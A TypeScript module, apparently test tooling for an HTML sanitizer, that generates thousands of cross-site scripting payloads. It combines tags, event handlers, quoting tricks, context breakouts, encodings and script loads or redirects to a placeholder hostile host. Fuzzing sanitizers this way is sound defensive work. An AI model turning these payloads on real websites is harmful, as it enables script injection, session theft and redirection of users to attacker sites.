import { CANARY, combine, distinct, HOSTILE_HOST } from './hostile.ts'
import { cssStrings, mutationStrings, textStrings } from './xss-shapes.ts'
import { urlStrings } from './xss-urls.ts'

const CALL = `${CANARY}()`

const TAGS = [
  'img src=x|svg|body|video src=x|audio src=x|input autofocus|details open|iframe|object|embed|marquee|image src=x',
  'select autofocus|textarea autofocus|form|button|a href=#|div|math|x-y|style|link rel=stylesheet href=x|table',
  'p contenteditable|dialog open|keygen autofocus',
].flatMap((row) => row.split('|'))

const HANDLERS = [
  'onerror|onload|onclick|onmouseover|onfocus|onfocusin|onanimationstart|ontoggle|onbegin|onstart|onscroll|onscrollend',
  'onpointerenter|onpointerrawupdate|onwheel|ontouchstart|onplay|ontransitionend|onbeforeinput|onbeforetoggle',
  'onauxclick|oncontentvisibilityautostatechange|onsecuritypolicyviolation|onslotchange|onpageshow|onhashchange',
  'ONERROR|oNlOaD|onunknown',
].flatMap((row) => row.split('|'))

/** How an attribute is separated from what precedes it, and how its value is quoted. */
const SPELLINGS: readonly ((handler: string) => string)[] = [
  (handler) => ` ${handler}=${CALL}`,
  (handler) => `/${handler}="${CALL}"`,
  (handler) => `\n${handler}='${CALL}'`,
  (handler) => `\t${handler}\f=\r"${entities(CALL)}"`,
  (handler) => ` x="'>"${handler}=${CALL.replace('()', '``')}`,
]

/** The contexts a string may land in: each prefix breaks out of one. */
const CONTEXTS = [
  `"|'|">|'>|\`|-->|--!>|<!--|<![CDATA[|]]>|</textarea>|</title>|</style>|</script>|</noscript>|</template>|</iframe>`,
  '</select>|</xmp>|</plaintext>|<noscript>|<textarea>|<title>|<xmp>|<noembed>|<noframes>|<template>|<select>',
  '<table><tr>|<math>|<svg>|<svg><style>|<svg><desc>|<math><mtext>|<math><mi><p>|<a href="|<p title="|<img alt="',
].flatMap((row) => row.split('|'))

/** Scripts without an attribute. */
const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script\n>`,
  `<script\n>${CALL}</script >`,
  `<script>${CALL}`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script src=//${HOSTILE_HOST}/x.js></script>`,
  `<script src="data:,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`,
  `<svg><script>${entities(CALL)}</script></svg>`,
  `<svg><script/>${CALL}</svg>`,
  `<math><script>${CALL}</script></math>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=//${HOSTILE_HOST}">`,
  `<base href="//${HOSTILE_HOST}/">`,
  `<form id=f action=//${HOSTILE_HOST}></form><button form=f>x</button>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `\u003cimg src=x onerror=${CALL}\u003e`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `%3Cimg%20src=x%20onerror=${CALL}%3E`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `<\u0000script>${CALL}</script>`,
]

/** At least 4,800 distinct strings that would run a script, load from the hostile host or navigate there if trusted. */
export function xssStrings(): string[] {
  const handlers = combine(TAGS, HANDLERS).flatMap(([tag = '', handler = ''], i) => {
    const both = [SPELLINGS[i % SPELLINGS.length], SPELLINGS[(i + 2) % SPELLINGS.length]]
    return both.map((spelling) => `<${tag}${spelling?.(handler) ?? ''}>`)
  })
  const contexts = combine(CONTEXTS, SCRIPTS).map((parts) => parts.join(''))
  return distinct([
    ...SCRIPTS,
    ...handlers,
    ...contexts,
    ...urlStrings(),
    ...cssStrings(),
    ...mutationStrings(),
    ...textStrings(),
  ])
}

function entities(text: string): string {
  return Array.from(text, (char) => `&#${char.charCodeAt(0)};`).join('')
}
